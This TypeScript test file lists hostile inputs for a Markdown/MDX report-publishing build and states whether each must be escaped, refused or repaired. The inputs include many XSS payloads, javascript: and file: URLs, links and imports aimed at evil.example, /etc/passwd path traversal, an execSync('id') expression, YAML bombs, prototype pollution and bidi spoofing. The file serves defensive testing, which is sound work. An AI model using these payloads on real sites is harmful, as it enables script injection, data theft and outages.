/** A file that means harm, and what must become of it. */
export interface Case {
  name: string;
  /** `.md` has no elements at all; `.mdx` the three of the vocabulary. */
  ext: 'md' | 'mdx';
  text: string;
  /** Words that its page must show, as the text that they are. */
  shown?: string;
  /** What the build must say of it; a report with a fatal fault is not published. */
  said?: RegExp;
  published: boolean;
}

/** Sets a mark that the browser test looks for, the ways the cheat sheets know. */
const RUN = 'window.pwned=1';
const EVIL = 'https://evil.example/x';
const SCRIPT = `<script>${RUN}</script>`;
const IMG = `<img src=x onerror=${RUN}>`;
const BREAKOUT = `"><svg onload=${RUN}>`;

const head = (fields: string): string => `---\n${fields}\n---\n`;
const HEAD = head('title: 题\ndistrict: 金坛区');
const page = (body: string): string => `${HEAD}\n## 一、抓服务\n\n${body}\n`;

const shown = (name: string, ext: Case['ext'], text: string, words: string): Case => ({
  name,
  ext,
  text,
  shown: words,
  published: true,
});
const refused = (name: string, ext: Case['ext'], text: string, said: RegExp): Case => ({
  name,
  ext,
  text,
  said,
  published: false,
});
const mended = (name: string, ext: Case['ext'], text: string, said: RegExp, words: string): Case => ({
  name,
  ext,
  text,
  said,
  shown: words,
  published: true,
});

/** Markup in every field of the head: shown as text. */
const FIELDS: Case[] = Object.entries({
  title: SCRIPT,
  subtitle: IMG,
  organization: BREAKOUT,
  district: `</a>${SCRIPT}`,
  city: `<iframe src="javascript:${RUN}">`,
  province: `'-alert(1)-'`,
  signature: `</title>${SCRIPT}`,
}).map(([field, value]) => {
  const fields = field === 'title' ? '' : 'title: 题\n';
  return shown(
    `markup in ${field}`,
    'mdx',
    `${head(`${fields}${field}: ${JSON.stringify(value)}`)}\n## 一、抓服务\n\n甲\n`,
    value,
  );
});

const PEOPLE: Case[] = ['byline', 'credits'].flatMap((field) =>
  ['role', 'name', 'affiliation'].map((part) => {
    const value = `${part}<b onmouseover=${RUN}>x</b>`;
    const person = { role: '通讯员', name: '甲', affiliation: '本报', [part]: value };
    return shown(
      `markup in ${field}.${part}`,
      'mdx',
      `${head(`title: 题\n${field}: ${JSON.stringify([person])}`)}\n甲\n`,
      value,
    );
  }),
);

/** HTML in Markdown: the text that it is. */
const HTML_IN_MD: Case[] = [
  ['a script', SCRIPT],
  ['an image with a handler', IMG],
  ['an SVG with a handler', `<svg/onload=${RUN}>`],
  ['SVG animation', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  ['an iframe', `<iframe src="javascript:${RUN}"></iframe>`],
  ['an iframe with a document', `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`],
  ['an object', `<object data="data:text/html,<script>${RUN}</script>"></object>`],
  ['an embed', `<embed src="${EVIL}">`],
  ['a form', `<form action="${EVIL}"><input autofocus onfocus=${RUN}></form>`],
  ['a base', `<base href="${EVIL}">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ['a stylesheet', `<link rel=stylesheet href="${EVIL}">`],
  ['a style', `<style>@import url(${EVIL});*{background:url(${EVIL})}</style>`],
  ['a style attribute', `<p style="background:url(${EVIL})">字</p>`],
  ['details', `<details open ontoggle=${RUN}>`],
  ['a template that breaks out', `</p></section></article></main>${SCRIPT}`],
  ['a comment that breaks out', `<!--><img src=x onerror=${RUN}>-->`],
  ['a conditional comment', `<!--[if gte IE 4]>${SCRIPT}<![endif]-->`],
  ['CDATA', `<![CDATA[${SCRIPT}]]>`],
  ['a mutation', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['a noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
  ['an xmp', `<xmp><p title="</xmp>${SCRIPT}">`],
  ['half a tag', `<img src=x onerror=${RUN} `],
  ['a tag with a line break', `<img\nsrc=x\nonerror=${RUN}>`],
  ['a tag with a form feed', `<svg\fonload=${RUN}>`],
].map(([name, html]) =>
  shown(`HTML in .md: ${name}`, 'md', page(`前${html}后`), html!.replace(/\s+/g, '').slice(0, 24)),
);

/** The same as blocks of their own. */
const HTML_BLOCKS: Case[] = [
  SCRIPT,
  `<style>*{background:url(${EVIL})}</style>`,
  `<div onclick="${RUN}">\n\n字\n\n</div>`,
].map((html, index) => shown(`an HTML block in .md, ${index + 1}`, 'md', page(html), html.slice(0, 15)));

/** Programs in MDX. */
const CODE: Case[] = [
  refused('ESM: import', 'mdx', page('import fs from "node:fs"'), /code|syntax/),
  refused('ESM: export', 'mdx', page(`export const x = (() => { globalThis.${RUN} })()`), /code|syntax/),
  refused('ESM in the first line of the body', 'mdx', `${HEAD}import x from "${EVIL}"\n\n甲\n`, /code|syntax/),
  refused('an expression', 'mdx', page('{process.exit(9)}'), /code/),
  refused('an expression in a sentence', 'mdx', page('共{require("child_process").execSync("id")}人'), /code/),
  refused('an expression in a heading', 'mdx', `${HEAD}\n## 一、{process.exit(9)}\n`, /code/),
  refused('an expression in a list', 'mdx', page('- {process.exit(9)}'), /code/),
  refused('an expression in a table', 'mdx', page('| 甲 |\n| - |\n| {process.exit(9)} |'), /code/),
  refused('an expression in a quotation', 'mdx', page('> {process.exit(9)}'), /code/),
  refused('an expression as an attribute', 'mdx', page('<Photo caption={process.exit(9)} />'), /code/),
  refused('a spread attribute', 'mdx', page('<Photo {...process.env} />'), /code/),
  refused('an expression inside <Stat>', 'mdx', page('共<Stat>{process.exit(9)}</Stat>人'), /code/),
  refused('an element outside the vocabulary', 'mdx', page(SCRIPT.replace(RUN, '')), /unknown-element/),
  refused('an element by a member', 'mdx', page('<Photo.constructor />'), /unknown-element/),
  refused(
    'an element of the prototype',
    'mdx',
    page('<constructor />\n\n<toString />\n\n<__proto__ />'),
    /unknown-element|syntax/,
  ),
  refused('a fragment', 'mdx', page(`<>${'字'}</>`), /unknown-element/),
  refused('an image with a handler in .mdx', 'mdx', page(`<img src="x" onerror="${RUN}" />`), /unknown-element/),
  refused(
    'HTML inside <ImageText>',
    'mdx',
    page(`<ImageText>\n  <img src="x" onerror="${RUN}" />\n</ImageText>`),
    /unknown-element/,
  ),
  refused('an iframe in a list', 'mdx', page(`- <iframe src="${EVIL}" />`), /unknown-element/),
  refused('an HTML comment in .mdx', 'mdx', page(`<!-- ${SCRIPT} -->`), /syntax/),
  mended(
    'an attribute outside the vocabulary',
    'mdx',
    page(`<Photo caption="甲图" onclick="${RUN}" />`),
    /unknown-attribute/,
    '甲图',
  ),
  mended(
    'dangerouslySetInnerHTML',
    'mdx',
    page(`<Photo caption="乙图" dangerouslySetInnerHTML="${RUN}" set:html="x" />`),
    /unknown-attribute/,
    '乙图',
  ),
];

/** Markup in what elements of the vocabulary say. */
const ATTRIBUTES: Case[] = [
  shown('a script in a caption', 'mdx', page(`<Photo caption='${SCRIPT}' />`), SCRIPT),
  shown('a breakout in a caption of Markdown', 'md', page(`![${BREAKOUT}](photos/x.jpg)`), BREAKOUT),
  shown('a breakout in alt', 'mdx', page(`<Photo caption="甲图" alt='${BREAKOUT}' />`), '甲图'),
  shown('a script in a credit', 'mdx', page(`<Photo caption="甲图" credit='${SCRIPT}' />`), '甲图'),
  shown('lettering', 'mdx', page('<ImageText>\n  \\<script>window.pwned=1\\</script>\n</ImageText>'), SCRIPT),
  shown(
    'a label of <Stat>',
    'mdx',
    page(`举办<Stat label='${BREAKOUT}' theme='${SCRIPT}' unit='${IMG}' key>12场</Stat>比赛`),
    '12场',
  ),
  shown(
    'a value of <Stat> that is no number',
    'mdx',
    page(`举办<Stat value='"onmouseover=${RUN}' key>13场</Stat>比赛`),
    '13场',
  ),
  shown('a value of <Stat> beyond numbers', 'mdx', page("举办<Stat value='1e999' key>14场</Stat>比赛"), '14场'),
  shown(
    'escaped markup in a heading',
    'mdx',
    `${HEAD}\n## 一、\\<img src=x onerror=${RUN}>\n\n甲\n`,
    `<img src=x onerror=${RUN}>`,
  ),
  shown('markup in a table', 'md', page(`| ${IMG} | 数 |\n| - | - |\n| ${SCRIPT} | 12场 |`), SCRIPT),
  shown(
    'references to characters',
    'mdx',
    page('&lt;script&gt;window.pwned=1&lt;/script&gt;&#x3c;img src=x onerror=window.pwned=1&#x3e;'),
    SCRIPT,
  ),
  shown('code', 'md', page(`\`${SCRIPT}\`\n\n\`\`\`html\n${SCRIPT}\n\`\`\``), SCRIPT),
];

/** Addresses that do something. */
const LINKS: Case[] = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  'java&#x73;cript&colon;window.pwned=1',
  '&#1;javascript:window.pwned=1',
  'java&Tab;script:window.pwned=1',
  'vbscript:msgbox(1)',
  'data:text/html,%3Cscript%3Eparent.window.pwned=1%3C/script%3E',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\\\\\evil.example/x',
  '/\\\\evil.example/x',
  'blob:https://evil.example/x',
  'jar:https://evil.example!/x',
  'view-source:javascript:1',
].map((url) => mended(`a link to ${url}`, 'md', page(`见[此处链接](<${url}>)。`), /link/, '见此处链接。'));

const REFERENCES: Case[] = [
  shown('a link by reference', 'md', page(`见[此处][x]。\n\n[x]: javascript:${RUN} "题"`), '见[此处][x]'),
  shown('an autolink', 'md', page(`见<javascript:${RUN}>。`), '见'),
  shown(
    'a title of a link that breaks out',
    'md',
    page(`见[此处](https://a.cn/ '"onmouseover=${RUN} x="')。`),
    '见此处。',
  ),
];

/** Photos that are somewhere else. */
const PATHS: Case[] = [
  '../../../package.json',
  '../../../../../../etc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  'https://evil.example/x.jpg',
  '//evil.example/x.jpg',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'javascript:window.pwned=1',
  'photos/..%2f..%2f..%2fpackage.json',
  'photos/\\u0000.jpg',
  '..\\\\..\\\\site.yaml',
  'photos/linked.jpg',
  'photos/drawing.svg',
  'photos/not-a-photo.jpg',
  'photos/bomb.png',
  'photos/half.jpg',
  'photos/polyglot.jpg',
].map((src) => shown(`a photo at ${src}`, 'mdx', page(`<Photo src="${src}" caption="会场全景" />`), '会场全景'));

/** The name of a photo that is there. */
export const MARKUP_NAME = 'a" onerror="window.pwned=1" x=".jpg';
const NAMES: Case[] = [
  shown(
    'a photo whose name is markup',
    'mdx',
    page(`<Photo src='photos/${MARKUP_NAME}' caption="全景甲" />`),
    '全景甲',
  ),
  shown('the same in Markdown', 'md', page(`![全景乙](<photos/${MARKUP_NAME}>)`), '全景乙'),
];

const BOMB = Array.from(
  { length: 9 },
  (_, i) =>
    `${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(9)
      .fill(i ? `*${'abcdefghi'[i - 1]}` : 'x')
      .join(',')}]`,
).join('\n');

/** Heads that make or unfold things. */
const YAML: Case[] = [
  refused('a YAML bomb', 'mdx', `${head(`${BOMB}\ntitle: 题`)}\n甲\n`, /frontmatter/),
  refused(
    'a merge bomb',
    'mdx',
    `${head('a: &a {x: 1}\ntitle: {<<: [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]}')}\n甲\n`,
    /frontmatter/,
  ),
  refused('an alias of itself', 'mdx', `${head('title: &t [*t]')}\n甲\n`, /frontmatter/),
  refused(
    'a tag that makes a function',
    'mdx',
    `${head('title: !!js/function "function(){process.exit(9)}"\nperiod: !!js/undefined ""')}\n甲\n`,
    /frontmatter/,
  ),
  refused('binary', 'mdx', `${head('title: !!binary "AAAA"\nperiod: !!set {a, b}')}\n甲\n`, /frontmatter/),
  refused('a title that is a map', 'mdx', `${head('title: {toString: x}')}\n甲\n`, /frontmatter/),
  refused('brackets within brackets', 'mdx', `${head(`title: ${'['.repeat(1400)}`)}\n甲\n`, /frontmatter/),
  mended(
    'a prototype',
    'mdx',
    `${head('title: 原型\n__proto__: {polluted: yes}\nconstructor: {prototype: {polluted: yes}}')}\n甲\n`,
    /frontmatter/,
    '原型',
  ),
  refused(
    'a source with a path and no digest',
    'mdx',
    `${head('title: 题\nsource: {file: ../../etc/passwd}')}\n甲\n`,
    /frontmatter/,
  ),
  shown(
    'markup in source.file',
    'mdx',
    `${head(`title: 题\nsource: ${JSON.stringify({ file: IMG, sha256: SCRIPT })}`)}\n甲\n`,
    IMG,
  ),
];

/** Shapes that take a parser long, or deep. */
const SHAPES: Case[] = [
  refused('10,000 quotations in each other', 'md', page(`${'>'.repeat(10_000)} 甲`), /limit/),
  refused('10,000 lists in each other', 'mdx', page(`${'- '.repeat(10_000)}甲`), /limit/),
  refused(
    '1,000 lists, each indented further',
    'mdx',
    page(Array.from({ length: 1000 }, (_, i) => `${'  '.repeat(i)}- 甲`).join('\n')),
    /limit/,
  ),
  refused('10,000 emphases', 'md', page('*a '.repeat(10_000)), /limit/),
  refused('10,000 brackets', 'mdx', page(`${'['.repeat(10_000)}甲${']'.repeat(10_000)}`), /limit/),
  refused('700 elements in each other', 'mdx', page(`${'<Stat>'.repeat(700)}甲${'</Stat>'.repeat(700)}`), /limit/),
  refused(
    '700 elements in each other, by line',
    'mdx',
    page(`${'<ImageText>\n\n'.repeat(700)}甲\n\n${'</ImageText>\n\n'.repeat(700)}`),
    /limit/,
  ),
  refused('a line of half a million characters', 'md', page('甲'.repeat(500_000)), /limit/),
  refused('half a million empty lines', 'md', page('\n'.repeat(500_000)), /limit/),
  shown(
    'a line of 25,000 characters',
    'md',
    page(`${'全区各级工会举办竞赛12场，'.repeat(1700)}完`),
    '全区各级工会举办竞赛12场，',
  ),
];

/** Characters that show something else than what stands there. */
const CHARACTERS: Case[] = [
  refused('text turned round', 'mdx', page('共\u202e001\u202c人，\u2067甲\u2069乙'), /invisible/),
  refused('text turned round by references', 'mdx', page('共&#x202e;001&#8236;人'), /invisible/),
  refused('a title turned round', 'mdx', `${head('title: "题\u202egnp.exe"')}\n甲\n`, /invisible/),
  refused('a title turned round by an escape', 'mdx', `${head('title: "题\\u202egnp.exe"')}\n甲\n`, /invisible/),
  refused('a caption turned round', 'mdx', page('<Photo caption="会场\u202egpj.全景" />'), /invisible/),
  refused(
    'a district turned round, with characters of no width',
    'mdx',
    `${head('title: 题\ndistrict: "金\u200b坛\u202e区"')}\n甲\n`,
    /invisible/,
  ),
  refused('a heading turned round', 'mdx', `${HEAD}\n## 一、抓\u2066服务\u202e\n\n甲\n`, /invisible/),
  refused('a file in GBK', 'md', page('\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd'), /encoding/),
  shown('zero-width characters', 'mdx', page('劳\u200b动\u200d竞\u2060赛\ufeff12场'), '12场'),
  shown('a lone surrogate', 'mdx', page('甲\ud800乙'), '乙'),
  shown('a null', 'mdx', page('甲\u0000丙'), '丙'),
  shown('line separators', 'mdx', page('甲\u2028乙\u2029丁</script>').replace('</', '\\</'), '丁</script>'),
  shown('control characters by escapes', 'mdx', `${head('title: "题\\0\\u0001\\e[2J尾"')}\n甲\n`, '尾'),
  shown('control characters by references', 'mdx', page('甲&#1;&#27;己'), '己'),
  shown('terminal sequences', 'mdx', page('甲\u001b[2J\u001b]0;x\u0007戊'), '戊'),
];

export const CASES: readonly Case[] = [
  ...FIELDS,
  ...PEOPLE,
  ...HTML_IN_MD,
  ...HTML_BLOCKS,
  ...CODE,
  ...ATTRIBUTES,
  ...LINKS,
  ...REFERENCES,
  ...PATHS,
  ...NAMES,
  ...YAML,
  ...SHAPES,
  ...CHARACTERS,
];

/** What a hostile address may say. */
export const QUERIES: readonly string[] = [
  `/search/?q=${encodeURIComponent(IMG)}`,
  `/search/?q=${encodeURIComponent(`"${BREAKOUT}`)}`,
  `/search/?q=${encodeURIComponent(`'-${RUN}-'`)}`,
  `/search/?q=%3Cscript%3E${RUN}%3C/script%3E`,
  `/search/?q=%00%ff%fe&q=javascript:${RUN}`,
  `/search/?q=${'%E7%94%B2'.repeat(1500)}`,
  `/search/?__proto__[polluted]=1&constructor[prototype][polluted]=1&q=甲`,
  `/search/?q=甲&year=${encodeURIComponent(IMG)}&place=${encodeURIComponent(SCRIPT)}&sort=${encodeURIComponent(BREAKOUT)}`,
  `/search/#${IMG}`,
  `/#javascript:${RUN}`,
  `/years/?x=${encodeURIComponent(SCRIPT)}#:~:text=x`,
];

/** A transcript that means harm: what the converter makes of it is a report like any other. */
export const TRANSCRIPT = `区总工会：<script>${RUN}</script>凝聚力量
${IMG}
通讯员 <b onclick=${RUN}>王五</b>
一、import fs from "fs"
export const x = {process.exit(9)}。全区举办竞赛12场，{\`\${process.exit(9)}\`}参加职工3000人。
[点此](javascript:${RUN})了解<Photo caption={x} />详情。
二、\`\`\`</p>
<Stat value={process.exit(9)}>发放慰问金20万元</Stat>，惠及职工500人。
`;
